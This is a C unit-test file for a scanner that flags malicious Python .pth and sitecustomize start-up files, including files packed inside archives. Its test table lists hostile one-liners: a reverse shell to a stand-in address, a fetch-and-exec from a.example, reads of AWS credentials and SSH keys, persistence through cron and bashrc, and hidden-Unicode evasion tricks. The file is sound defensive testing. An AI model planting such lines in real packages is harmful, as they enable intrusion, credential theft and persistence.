@@ -1,0 +1,452 @@
+/* SPDX-License-Identifier: MIT */
+/* Start-up files: every attack is found, no real installer's line is. */
+#include "config.h"
+
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <archive.h>
+#include <archive_entry.h>
+#include <cmocka.h>
+
+#include "icap-llmsec/pth.h"
+#include "lib/arena.h"
+#include "lib/buf.h"
+
+#define L(l)	(1u << (l))
+
+static unsigned
+layers_of(const struct pth_report *r)
+{
+	unsigned m = 0;
+
+	for (size_t i = 0; i < r->n; i++)
+		m |= L(r->v[i].layer);
+	return m;
+}
+
+static unsigned
+check_as(const char *file, const char *data, size_t len)
+{
+	struct arena *a = arena_new(0);
+	struct pth_report r = {0};
+	unsigned m;
+
+	pth_check(pth_kind(file), file, data, len, a, &r);
+	m = layers_of(&r);
+	assert_false(r.nomem);
+	arena_free(&a);
+	return m;
+}
+
+/* --- attacks --------------------------------------------------------------------------------------------- */
+
+static const struct { const char *text; unsigned layers; } bad[] = {
+	{"import os; os.system('id')", L(PTH_START) | L(PTH_PROCESS)},
+	{"import os;os.popen('id').read()", L(PTH_START) | L(PTH_PROCESS)},
+	{"import\tos; os.system('id')", L(PTH_START) | L(PTH_PROCESS)},
+	{"import subprocess; subprocess.Popen(['sh', '-c', 'id'])", L(PTH_START) | L(PTH_PROCESS)},
+	{"import subprocess,sys;subprocess.Popen([sys.executable,'-c','import x'])", L(PTH_START) | L(PTH_PROCESS)},
+	{"import base64; exec(base64.b64decode('cHJpbnQoMSk='))", L(PTH_START) | L(PTH_EXEC) | L(PTH_BLOB)},
+	{"import os, sys, zlib; exec(zlib.decompress(bytes.fromhex('789c4b04')))", L(PTH_START) | L(PTH_EXEC) | L(PTH_BLOB)},
+	{"import sys; eval(compile('1', 'x', 'exec'))", L(PTH_START) | L(PTH_EXEC)},
+	{"import marshal,types;types.FunctionType(marshal.loads(b'c'), {})()", L(PTH_START) | L(PTH_EXEC)},
+	{"import urllib.request as u; exec(u.urlopen('https://a.example/x').read())", L(PTH_START) | L(PTH_EXEC) | L(PTH_PROCESS)},
+	{"import socket,os;s=socket.socket();s.connect(('192.0.2.1',4444));os.dup2(s.fileno(),0)", L(PTH_START) | L(PTH_PROCESS)},
+	{"import pty; pty.spawn('/bin/bash')", L(PTH_START) | L(PTH_PROCESS)},
+	{"import ctypes; ctypes.CDLL('./x.so')", L(PTH_START) | L(PTH_PROCESS)},
+	{"import os; open(os.path.expanduser('~/.bashrc'),'a').write('x')", L(PTH_START) | L(PTH_PERSIST)},
+	{"import os; os.system('(crontab -l; echo x) | crontab -')", L(PTH_START) | L(PTH_PERSIST) | L(PTH_PROCESS)},
+	{"import shutil; shutil.copy('x', '/etc/systemd/system/x.service')", L(PTH_START) | L(PTH_PERSIST)},
+	{"import winreg; winreg.SetValueEx(k, 'x', 0, 1, 'x')", L(PTH_START) | L(PTH_PERSIST)},
+	{"import os; d = open(os.path.expanduser('~/.aws/credentials')).read()", L(PTH_START) | L(PTH_CREDENTIAL)},
+	{"import os; k = open('/root/.ssh/id_rsa').read()", L(PTH_START) | L(PTH_CREDENTIAL)},
+	{"import os, json; d = json.dumps(dict(os.environ))", L(PTH_START) | L(PTH_CREDENTIAL)},
+	{"import requests; requests.get('http://169.254.169.254/latest/')", L(PTH_START) | L(PTH_CREDENTIAL) | L(PTH_PROCESS)},
+	/* hidden from a reader, or from a search for "import " at the start of a line */
+	{"\xef\xbb\xbfimport os; os.system('id')", L(PTH_START) | L(PTH_PROCESS)},
+	{"x\n\xef\xbb\xbfimport os; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
+	{"\xc2\xa0import os; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
+	{"import\xc2\xa0os; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
+	{"\xe3\x80\x80import os;os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
+	{"\xe2\x80\x8bimport os;os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
+	{"\xe2\x80\xaeimport os;os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
+	{";;import os; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
+	{" \t import os; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
+	{"# harmless\rimport os; os.system('id')", L(PTH_START) | L(PTH_PROCESS)},
+	{"# harmless\x0cimport os; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
+	{"# harmless\xe2\x80\xa8import os; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
+	{"# harmless\xc2\x85import os; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
+	{"# harmless\x1cimport os; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
+	{"foo\x0bimport os; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
+	{"a\r\nb\r\n\r\nimport os;os.system('id')\r\n", L(PTH_START) | L(PTH_PROCESS)},
+	{"#!/usr/bin/python\nimport os;os.system('id')\n", L(PTH_START) | L(PTH_PROCESS)},
+	{"%PDF-1.4\nimport os;os.system('id')\n", L(PTH_START) | L(PTH_PROCESS)},
+	{"import os\x0c; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
+	{"import sys; \xef\xbd\x85\xef\xbd\x98\xef\xbd\x85\xef\xbd\x83('1')", L(PTH_START) | L(PTH_HIDDEN)},
+	/* round the vocabulary */
+	{"import os; getattr(os, 'sys' 'tem')('id')", L(PTH_START) | L(PTH_EXEC)},
+	{"import os; getattr(os, 'system')('id')", L(PTH_START) | L(PTH_EXEC)},
+	{"import os; os.__dict__['system']('id')", L(PTH_START)},
+	{"import os; f = os.__dict__.get('system'); f('id')", L(PTH_START)},
+	{"import os, types; m = types.ModuleType('m'); f = os.__dict__.get('system'); m.__dict__.setdefault('install', f); m.install('id')",
+	    L(PTH_START)},
+	{"import os, types; m = types.ModuleType('m'); m.__dict__.setdefault('install', os.environ); m.install()", L(PTH_START)},
+	{"import os; os.environ.setdefault('LD_PRELOAD', 'evil')", L(PTH_START)},
+	{"import os; e = os.environ; e.setdefault('PYTHONPATH', 'evil')", L(PTH_START)},
+	{"import sys; sys.path.insert(0, '/tmp/x')", L(PTH_START)},
+	{"import sys; sys.path.append('evil')", L(PTH_START)},
+	{"import sys; sys . path.append('evil')", L(PTH_START)},
+	{"import sys as os; os.path.append('evil')", L(PTH_START)},
+	{"import sys, os; os = sys; os.path.append('evil')", L(PTH_START)},
+	{"import sys; p = sys; p.path.append('evil')", L(PTH_START)},
+	{"from os import system as install; install('id')", L(PTH_START)},
+	{"import x; x.install('id')", L(PTH_START)},
+	{"import sys; x = __import__; x('os').system('id')", L(PTH_START) | L(PTH_EXEC)},
+	{"import sys; __import__('subprocess').call('id')", L(PTH_START) | L(PTH_PROCESS)},
+	{"import sys; (lambda: __import__('os').system('id'))()", L(PTH_START) | L(PTH_PROCESS)},
+	{"import os; exec('if 1:\\n import x')", L(PTH_START) | L(PTH_EXEC)},
+	{"import os; print(f'{os.getcwd()}')", L(PTH_START)},
+	{"import evil; evil.run()", L(PTH_START)},
+	{"import antigravity", L(PTH_START)},
+	{"import os # x\rexec('1')", L(PTH_HIDDEN)},
+	{"import os; _ = \"\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73\"", L(PTH_START) | L(PTH_BLOB)},
+	{"import os; __builtins__.exec('1')", L(PTH_START) | L(PTH_EXEC)},
+	{"exec('import os')", L(PTH_HIDDEN)},
+	/* paths */
+	{"/tmp/x", L(PTH_PATH)},
+	{"/tmp", L(PTH_PATH)},
+	{"/var/tmp/lib", L(PTH_PATH)},
+	{"/dev/shm/x", L(PTH_PATH)},
+	{"  /tmp/x  ", L(PTH_PATH)},
+	{"//tmp//x", L(PTH_PATH)},
+	{"/usr/../tmp/x", L(PTH_PATH)},
+	{"../../../../../../tmp/x", L(PTH_PATH)},
+	{"foo/../../../../../tmp/.x", L(PTH_PATH)},
+	{"/proc/self/cwd", L(PTH_PATH)},
+	{"/run/user/1000/x", L(PTH_PATH)},
+	{"/TMP/x", L(PTH_PATH)},
+	{"/private/tmp/x", L(PTH_PATH)},
+	{"C:\\Windows\\Temp\\x", L(PTH_PATH)},
+	{"C:\\Users\\a\\AppData\\Local\\Temp", L(PTH_PATH)},
+	{"\\\\?\\C:\\Windows\\Temp", L(PTH_PATH)},
+	{"\\\\host\\share\\py", L(PTH_PATH)},
+	{"good\n/tmp/evil.egg\n", L(PTH_PATH)},
+};
+
+static void
+test_attacks(void **state)
+{
+	(void)state;
+	for (size_t i = 0; i < sizeof(bad) / sizeof(*bad); i++) {
+		unsigned m = check_as("x.pth", bad[i].text, strlen(bad[i].text));
+
+		if ((m & bad[i].layers) != bad[i].layers)
+			fail_msg("%zu: %s: layers %x, not %x", i, bad[i].text, m, bad[i].layers);
+	}
+}
+
+static void
+test_attack_encodings(void **state)
+{
+	static const char wide[] = "\xff\xfei\0m\0p\0o\0r\0t\0 \0o\0s\0";
+	static const char nul[] = "a\0import os; os.system('id')";
+	char *big = calloc(1, 2 << 20), model[1024] = "PK\3\4";
+
+	(void)state;
+	assert_true(check_as("x.pth", wide, sizeof(wide) - 1) & L(PTH_HIDDEN));
+	assert_true(check_as("x.pth", nul, sizeof(nul) - 1) & L(PTH_START));
+	assert_non_null(big);
+	memset(big, '#', 2 << 20);
+	assert_true(check_as("x.pth", big, 2 << 20) & L(PTH_LIMIT));
+	free(big);
+	assert_int_equal(check_as("model.pth", model, sizeof(model)), 0);
+	memcpy(model + 600, "\nimport os;os.system('id')\n", 27);
+	assert_true(check_as("model.pth", model, sizeof(model)) & L(PTH_START));
+	memcpy(model + 600, "\n/tmp/evil\n\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", 27);
+	assert_true(check_as("model.pth", model, sizeof(model)) & L(PTH_PATH));
+}
+
+/* --- what is not ----------------------------------------------------------------------------------------- */
+
+/* setuptools' namespace packages: three generations of the line, for packages of one, two and three levels. */
+#define NSPKG3(pkg, name) "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], " \
+	"*(" pkg "));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');" \
+	"m = has_mfs and sys.modules.setdefault('" name "', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('" name \
+	"', [os.path.dirname(p)])));m = m or sys.modules.setdefault('" name "', types.ModuleType('" name "'));" \
+	"mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
+#define NSPKG2(pkg, name) "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *(" pkg "));" \
+	"ie = os.path.exists(os.path.join(p,'__init__.py'));m = not ie and sys.modules.setdefault('" name "', types.ModuleType('" name "'));" \
+	"mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
+
+static const char *const good[] = {
+	NSPKG3("'mpl_toolkits',", "mpl_toolkits"), NSPKG3("'zope',", "zope"), NSPKG3("'repoze', 'who'", "repoze.who"),
+	NSPKG3("'repoze',", "repoze") NSPKG3("'repoze', 'who'", "repoze.who") NSPKG3("'repoze', 'who', 'plugins'", "repoze.who.plugins"),
+	NSPKG3("'sphinxcontrib',", "sphinxcontrib"), NSPKG3("'google',", "google"), NSPKG3("'ruamel',", "ruamel"),
+	NSPKG3("'lazr',", "lazr"), NSPKG3("'flufl',", "flufl"), NSPKG3("'zc',", "zc"), NSPKG3("'logilab',", "logilab"),
+	NSPKG2("'paste',", "paste"), NSPKG2("'backports',", "backports"), NSPKG2("'oslo', 'config'", "oslo.config"),
+	"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
+	    "enabled and __import__('_distutils_hack').add_shim(); \n",
+	"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'stdlib') == 'local'; "
+	    "enabled and __import__('_distutils_hack').add_shim(); ",
+	"import sys; sys.__plen = len(sys.path)\n./foo-1.0-py2.7.egg\nimport sys; new=sys.path[sys.__plen:]; del sys.path[sys.__plen:]; "
+	    "p=getattr(sys,'__egginsert',0); sys.path[p:p]=new; sys.__egginsert = p+len(new)\n",
+	"import _virtualenv", "import _virtualenv\n",
+	"import coverage; coverage.process_startup()\n", "import coverage; coverage.process_startup();\n",
+	"import __editable___my_package_1_0_0_finder; __editable___my_package_1_0_0_finder.install()\n",
+	"import __editable___x_finder; __editable___x_finder.install()",
+	"# .pth file for the PyWin32 extensions\r\nwin32\r\nwin32\\lib\r\nPythonwin\r\n\r\n# And some hackery to deal with environments\r\nimport pywin32_bootstrap\r\n",
+	"import __future__\n", "import a_module, another.one\n", "import readline as rl\n",
+	"import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from pytest_cov.embed import init\\n  init()\\n except Exception as exc:"
+	    "\\n  sys.stderr.write(\\n   \"pytest-cov: Failed to setup subprocess coverage. \"\\n   \"Environ: {0!r} \"\\n   "
+	    "\"Exception: {1!r}\\\\n\".format(\\n    dict((k, v) for k, v in os.environ.items() if k.startswith(\\'COV_CORE\\')),"
+	    "\\n    exc\\n   )\\n  )\\n')\n",
+	"", "\n", "\n\n\r\n", "# only a comment\n", "# import os; os.system('this is only written')\n",
+	"PIL\n", "wx-3.0-gtk2\n", "gtk-2.0\n", "./foo.egg\n", "../other\n", "../../../../share/foo/python\n",
+	"/usr/share/pyshared\n", "/home/dev/src/project/src\n", "/opt/temporary-works/lib\n", "/usr/lib/llvm-14/build/utils\n",
+	"C:\\Users\\a\\source\\repos\\project\n", "/srv/\xd0\xbf\xd1\x80\xd0\xbe\xd0\xb5\xd0\xba\xd1\x82\n", "/tmpfiles/lib\n",
+	"/var/lib/app\r\n/var/templates\r\n", "lib/python\nlib/more python\n", "importlib_stuff\n", "imports/of things\n",
+	"\xef\xbb\xbf/opt/app\n", "matplotlib\n# trailing comment", "build/tmp/lib\n",
+};
+
+static void
+test_legitimate(void **state)
+{
+	(void)state;
+	for (size_t i = 0; i < sizeof(good) / sizeof(*good); i++) {
+		unsigned m = check_as("x.pth", good[i], strlen(good[i]));
+
+		if (m != 0)
+			fail_msg("%zu: %s: layers %x", i, good[i], m);
+	}
+}
+
+static void
+test_customize(void **state)
+{
+	static const char apport[] = "# install the exception handler if there is one\ntry:\n    import apport_python_hook\nexcept ImportError:\n"
+	    "    pass\nelse:\n    apport_python_hook.install()\n";
+	static const char doc[] = "\"\"\"Nothing; it's\nonly here.\"\"\"\n'''more'''\nimport sys\n";
+	static const char evil[] = "import os\n\ndef f():\n    os.system('id')\n\nf()\n";
+	static const char quiet[] = "\"\"\"x\"\"\" ; exec('1')\n";
+
+	(void)state;
+	assert_int_equal(check_as("sitecustomize.py", apport, sizeof(apport) - 1), 0);
+	assert_int_equal(check_as("sitecustomize.py", doc, sizeof(doc) - 1), 0);
+	assert_int_equal(check_as("usercustomize.py", "", 0), 0);
+	assert_true(check_as("usercustomize.py", evil, sizeof(evil) - 1) & L(PTH_PROCESS));
+	assert_true(check_as("sitecustomize.py", quiet, sizeof(quiet) - 1) & L(PTH_EXEC));
+	assert_true(check_as("sitecustomize.cpython-311-x86_64-linux-gnu.so", "\x7f" "ELF", 4) & L(PTH_LIMIT));
+}
+
+static void
+test_names(void **state)
+{
+	static const struct { const char *path; enum pth_kind kind; } t[] = {
+		{"a.pth", PTH_FILE}, {"A.PTH", PTH_FILE}, {"x/y/z.pTh", PTH_FILE}, {"a.pth.", PTH_FILE}, {"a.pth ", PTH_FILE},
+		{"a.pth::$DATA", PTH_FILE}, {"x\\y.pth", PTH_FILE}, {".pth", PTH_FILE}, {"pth", PTH_NONE}, {"a.pth.txt", PTH_NONE},
+		{"a.pth/x", PTH_NONE}, {"sitecustomize.py", PTH_CUSTOMIZE}, {"./sitecustomize.py", PTH_CUSTOMIZE},
+		{"SiteCustomize.PY", PTH_CUSTOMIZE}, {"pkg-1.0/usercustomize.py", PTH_CUSTOMIZE}, {"sitecustomize/__init__.py", PTH_CUSTOMIZE},
+		{"pkg-1.0/src/sitecustomize.py", PTH_CUSTOMIZE}, {"p-1.data/purelib/sitecustomize.py", PTH_CUSTOMIZE},
+		{"usr/lib/python3.11/sitecustomize.py", PTH_CUSTOMIZE}, {"sitecustomize.pyc", PTH_OPAQUE},
+		{"sitecustomize.abi3.so", PTH_OPAQUE}, {"usercustomize.cp311-win_amd64.pyd", PTH_OPAQUE},
+		{"__pycache__/sitecustomize.cpython-311.pyc", PTH_NONE}, {"agent/boot/strap/sitecustomize.py", PTH_NONE},
+		{"mysitecustomize.py", PTH_NONE}, {"sitecustomize.txt", PTH_NONE}, {"", PTH_NONE}, {"/", PTH_NONE},
+	};
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(t) / sizeof(*t); i++)
+		if (pth_kind(t[i].path) != t[i].kind)
+			fail_msg("%s: %d", t[i].path, pth_kind(t[i].path));
+}
+
+/* --- archives -------------------------------------------------------------------------------------------- */
+
+struct member { const char *name, *data; size_t len; };
+
+static void
+pack(struct buf *out, int format, int filter, const struct member *m, size_t n)
+{
+	struct archive *a = archive_write_new();
+	size_t cap = 1 << 20, used = 0;
+	char *mem = malloc(cap);
+
+	assert_int_equal(archive_write_set_format(a, format), ARCHIVE_OK);
+	assert_int_equal(archive_write_add_filter(a, filter), ARCHIVE_OK);
+	assert_int_equal(archive_write_open_memory(a, mem, cap, &used), ARCHIVE_OK);
+	for (size_t i = 0; i < n; i++) {
+		struct archive_entry *e = archive_entry_new();
+
+		archive_entry_set_pathname(e, m[i].name);
+		archive_entry_set_filetype(e, AE_IFREG);
+		archive_entry_set_perm(e, 0644);
+		archive_entry_set_size(e, (la_int64_t)m[i].len);
+		assert_int_equal(archive_write_header(a, e), ARCHIVE_OK);
+		archive_write_data(a, m[i].data, m[i].len);
+		archive_entry_free(e);
+	}
+	archive_write_close(a);
+	archive_write_free(a);
+	buf_add(out, mem, used);
+	free(mem);
+}
+
+static unsigned
+check_archive(const char *name, const struct buf *b, const struct pth_limits *lim, size_t *files)
+{
+	struct arena *a = arena_new(0);
+	struct pth_report r = {0};
+	unsigned m;
+
+	pth_check_archive(name, buf_ptr(b), buf_len(b), lim, a, &r);
+	m = layers_of(&r);
+	*files = r.files;
+	assert_false(r.nomem);
+	arena_free(&a);
+	return m;
+}
+
+static const char evil_line[] = "import os; os.system('id')\n", good_line[] = "import _virtualenv\n";
+#define MEMBER(n, d)	{n, d, sizeof(d) - 1}
+
+static void
+test_archives(void **state)
+{
+	static const struct { int format, filter; } how[] = {
+		{ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE}, {ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_NONE},
+		{ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_GZIP}, {ARCHIVE_FORMAT_TAR_PAX_RESTRICTED, ARCHIVE_FILTER_BZIP2},
+		{ARCHIVE_FORMAT_TAR_GNUTAR, ARCHIVE_FILTER_XZ}, {ARCHIVE_FORMAT_7ZIP, ARCHIVE_FILTER_NONE},
+		{ARCHIVE_FORMAT_CPIO_POSIX, ARCHIVE_FILTER_GZIP},
+	};
+	const struct member bad_m[] = {MEMBER("pkg/__init__.py", "x = 1\n"), MEMBER("pkg-1.0.data/purelib/Zz.PtH", evil_line)};
+	const struct member good_m[] = {MEMBER("pkg/__init__.py", "import os; os.system('not at start-up')\n"), MEMBER("a.pth", good_line),
+	    MEMBER("pkg/deep/er/sitecustomize.py", "import os; os.system('id')\n")};
+	size_t files;
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(how) / sizeof(*how); i++) {
+		struct buf inner = {0}, outer = {0}, good_b = {0};
+
+		pack(&inner, how[i].format, how[i].filter, bad_m, 2);
+		assert_true(check_archive("x.whl", &inner, NULL, &files) & L(PTH_PROCESS));
+		assert_int_equal(files, 1);
+		for (size_t k = 0; k < sizeof(how) / sizeof(*how); k++) {
+			struct member nest = {"vendor/inner.bin", buf_ptr(&inner), buf_len(&inner)};
+
+			buf_clear(&outer);
+			pack(&outer, how[k].format, how[k].filter, &nest, 1);
+			assert_true(check_archive("x.tar.gz", &outer, NULL, &files) & L(PTH_START));
+		}
+		pack(&good_b, how[i].format, how[i].filter, good_m, 3);
+		assert_int_equal(check_archive("x.whl", &good_b, NULL, &files), 0);
+		assert_int_equal(files, 1);
+		buf_free(&inner);
+		buf_free(&outer);
+		buf_free(&good_b);
+	}
+}
+
+static void
+test_archive_limits(void **state)
+{
+	struct buf b = {0}, next = {0};
+	char *zeros = calloc(1, 512 << 10);
+	struct member m = MEMBER("a.pth", evil_line), many[20];
+	struct pth_limits lim = {.unpacked = 100000}, few = {.entries = 10};
+	size_t files;
+
+	(void)state;
+	assert_non_null(zeros);
+	/* deeper than is looked at */
+	pack(&b, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, &m, 1);
+	for (int i = 0; i < 5; i++) {
+		struct member nest = {"n.zip", buf_ptr(&b), buf_len(&b)};
+
+		buf_clear(&next);
+		pack(&next, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, &nest, 1);
+		buf_clear(&b);
+		buf_add(&b, buf_ptr(&next), buf_len(&next));
+	}
+	assert_true(check_archive("x.zip", &b, NULL, &files) & L(PTH_LIMIT));
+	/* more than is unpacked, in a file that is read and in one that is skipped */
+	m = (struct member){"a.pth", zeros, 512 << 10};
+	buf_clear(&b);
+	pack(&b, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, &m, 1);
+	assert_true(check_archive("x.zip", &b, &lim, &files) & L(PTH_LIMIT));
+	m.name = "a.dat";
+	buf_clear(&b);
+	pack(&b, ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_GZIP, &m, 1);
+	assert_true(check_archive("x.tgz", &b, &lim, &files) & L(PTH_LIMIT));
+	/* entries */
+	for (size_t i = 0; i < 20; i++)
+		many[i] = (struct member)MEMBER("x", "y");
+	buf_clear(&b);
+	pack(&b, ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_NONE, many, 20);
+	assert_true(check_archive("x.tar", &b, &few, &files) & L(PTH_LIMIT));
+	/* no archive, and one that was cut */
+	buf_clear(&b);
+	buf_adds(&b, "this is no archive");
+	assert_true(check_archive("x.whl", &b, NULL, &files) & L(PTH_LIMIT));
+	m = (struct member)MEMBER("a.pth", evil_line);
+	buf_clear(&b);
+	pack(&b, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, &m, 1);
+	b.len -= 20;
+	assert_true(check_archive("x.whl", &b, NULL, &files) != 0);
+	buf_free(&b);
+	buf_free(&next);
+	free(zeros);
+}
+
+static void
+test_packed_alone(void **state)
+{
+	struct buf b = {0};
+	struct member m = MEMBER("x", evil_line);
+	size_t files;
+
+	(void)state;
+	pack(&b, ARCHIVE_FORMAT_RAW, ARCHIVE_FILTER_GZIP, &m, 1);
+	assert_true(check_archive("dir/a.pth.gz", &b, NULL, &files) & L(PTH_PROCESS));
+	assert_int_equal(check_archive("dir/a.txt.gz", &b, NULL, &files), 0);
+	buf_free(&b);
+}
+
+/* A name outside ASCII is a name in any locale. */
+static void
+test_utf8_names(void **state)
+{
+	struct buf b = {0};
+	struct member m = {"pkg/\xd1\x84\xd0\xb0\xd0\xb9\xd0\xbb.pth", evil_line, sizeof(evil_line) - 1};
+	struct member g = {"pkg/\xd1\x84\xd0\xb0\xd0\xb9\xd0\xbb.txt", evil_line, sizeof(evil_line) - 1};
+	size_t files;
+
+	(void)state;
+	pack(&b, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, &m, 1);
+	assert_true(check_archive("x.zip", &b, NULL, &files) & L(PTH_PROCESS));
+	buf_clear(&b);
+	pack(&b, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, &g, 1);
+	assert_int_equal(check_archive("x.zip", &b, NULL, &files), 0);
+	buf_free(&b);
+}
+
+int
+main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_attacks),
+		cmocka_unit_test(test_attack_encodings),
+		cmocka_unit_test(test_legitimate),
+		cmocka_unit_test(test_customize),
+		cmocka_unit_test(test_names),
+		cmocka_unit_test(test_archives),
+		cmocka_unit_test(test_archive_limits),
+		cmocka_unit_test(test_packed_alone),
+		cmocka_unit_test(test_utf8_names),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
